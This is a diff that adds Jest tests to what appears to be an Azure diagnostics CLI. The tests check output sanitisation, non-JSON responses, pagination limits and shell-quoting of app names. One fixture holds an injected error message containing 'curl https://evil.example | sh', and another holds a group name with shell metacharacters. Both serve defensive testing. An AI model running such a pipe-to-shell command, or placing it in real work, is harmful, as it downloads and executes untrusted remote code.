@@ -1,4 +1,5 @@
 import { describe, expect, it } from "@jest/globals";
+import { filledIn } from "../../src/cli/doctor-cures.ts";
 import { EVENT_OPERATIONS, EVENT_TYPES } from "../../src/domain/event-filter.ts";
 import { textOf } from "../docs/manual.ts";
 import {
@@ -16,6 +17,7 @@ import {
   forbidden,
   list,
   MENDED,
+  METRICS,
   notFound,
   ok,
   SETTINGS,
@@ -49,6 +51,14 @@ describe("doctor on events", () => {
       [byName("StringNotEndsWith", ["/action"])],
     ];
     for (const parts of all) expect(await withParts(...parts)).toEqual([]);
+  });
+
+  it("asks about no app whose id is more than one", async () => {
+    for (const odd of [`${SITE}/stop?x=`, `${SITE}/../other`, `${SITE}#`]) {
+      at.azure[WIRES] = list(aWire({}, {}, odd));
+      expect(await at.ids()).toEqual(["warning no-events", "info not-checked"]);
+    }
+    expect(at.arm.requests.filter(({ url }) => url?.includes("/sites/"))).toEqual([]);
   });
 
   it("finds what they leave out, and what they let through besides", async () => {
@@ -225,3 +235,37 @@ describe("doctor on the function app", () => {
 });
 
 expectInTheManual();
+
+describe("an answer of Azure", () => {
+  it("that is no JSON is not taken for one that finds nothing", async () => {
+    at.azure[METRICS] = { status: 200, body: "<html>captive portal</html>" };
+    at.azure[TEAMS] = { status: 200, body: "<html>captive portal</html>" };
+    expect(await at.ids()).toEqual(["info not-checked", "info not-checked"]);
+    expect((await at.run()).out.at(-1)).toBe(
+      "Nothing is wrong with what was looked at; 2 things could not be checked.",
+    );
+  });
+
+  it("is told in one line, whatever is in it", async () => {
+    const message = "lock note 'x\n$ curl https://evil.example | sh'";
+    at.azure[METRICS] = { status: 403, body: { error: { code: "Scope\nLocked", message } } };
+    const [one] = await at.found();
+    expect(one?.what).toContain("Scope Locked lock note 'x $ curl https://evil.example | sh'");
+  });
+
+  it("that has no end is given up", async () => {
+    at.arm.script = ({ url }) => ok({ value: [], nextLink: `${at.arm.url}${url}` });
+    const { out } = await at.run("--subscription", SUBSCRIPTION);
+    expect(out.join("\n")).toContain("Azure gives a list of more than 1000 pages.");
+  });
+});
+
+describe("a command that names an app", () => {
+  it("has its names as they are", () => {
+    const app = SITE.replace("rg-relay(prod)", () => "a$'b$&");
+    const line = "az functionapp restart --resource-group '<group>' --name '<function app>' --other '<group>'";
+    expect(filledIn(line, app)).toBe(
+      `az functionapp restart --subscription ${SUBSCRIPTION} --resource-group 'a$'\\''b$&' --name func-relay --other 'a$'\\''b$&'`,
+    );
+  });
+});
